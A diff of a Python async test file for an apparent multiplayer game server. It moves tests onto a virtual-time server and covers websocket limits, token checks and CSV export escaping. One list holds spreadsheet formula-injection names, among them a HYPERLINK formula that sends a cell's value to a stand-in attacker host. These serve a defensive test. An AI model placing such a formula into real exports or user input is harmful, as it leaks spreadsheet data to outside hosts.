@@ -32,6 +32,7 @@ from bench.attacks import (
     ws_exchange,
 )
 from tests.live import KEY, Player, Server, open_session
+from tests.virtual_time import VirtualServer, virtual_time
 
 GiB = 1 << 30
 
@@ -192,7 +193,8 @@ async def test_websockets_behind_the_proxy_are_capped_by_the_forwarded_address(
         server.stop()
 
 
-async def test_a_newer_socket_of_a_player_replaces_the_oldest(server: Server) -> None:
+@virtual_time
+async def test_a_newer_socket_of_a_player_replaces_the_oldest(server: VirtualServer) -> None:
     code = await open_session(server, "guitar")
     ana = await Player(server, code, "Ana").join()
     first = Player(server, code, "Ana")
@@ -410,7 +412,8 @@ def test_no_page_has_inline_script_style_or_handlers() -> None:
 NAMES = ['=HYPERLINK("//ev.il/"&A2,"x")', "+1+2", "@SUM(1,2)", "-2+3"]
 
 
-async def test_names_that_are_formulas_reach_both_exports_as_text(server: Server) -> None:
+@virtual_time
+async def test_names_that_are_formulas_reach_both_exports_as_text(server: VirtualServer) -> None:
     code = await open_session(server, "guitar")
     players = [await Player(server, code, name).join() for name in NAMES]
     for player in players:
@@ -424,12 +427,12 @@ async def test_names_that_are_formulas_reach_both_exports_as_text(server: Server
     for player in players:
         await player.c.type("ended")
 
-    status, text = server.call("GET", f"/api/sessions/{code}/results.csv")
+    status, text = await server.ask("GET", f"/api/sessions/{code}/results.csv")
     assert status == 200 and isinstance(text, str)
     rows = list(csv.DictReader(io.StringIO(text)))
     seats = {row[f"{role}_player"] for row in rows for role in ("seller", "buyer")}
     assert seats == {"'" + name for name in NAMES}
-    status, text = server.call("GET", f"/api/sessions/{code}/export.csv")
+    status, text = await server.ask("GET", f"/api/sessions/{code}/export.csv")
     assert status == 200 and isinstance(text, str)
     rows = list(csv.DictReader(io.StringIO(text)))
     assert {row["name"] for row in rows} == {"'" + name for name in NAMES}
@@ -452,7 +455,8 @@ def test_the_csv_writer_keeps_numbers_and_guards_every_formula_start() -> None:
 # ---- the websocket's Origin -------------------------------------------------------------------
 
 
-async def test_a_socket_from_another_origin_still_needs_a_token(server: Server) -> None:
+@virtual_time
+async def test_a_socket_from_another_origin_still_needs_a_token(server: VirtualServer) -> None:
     """Origin is not checked (docs/security.md): a socket carries no cookie, only a token."""
     code = await open_session(server, "guitar")
     ana = await Player(server, code, "Ana").join()
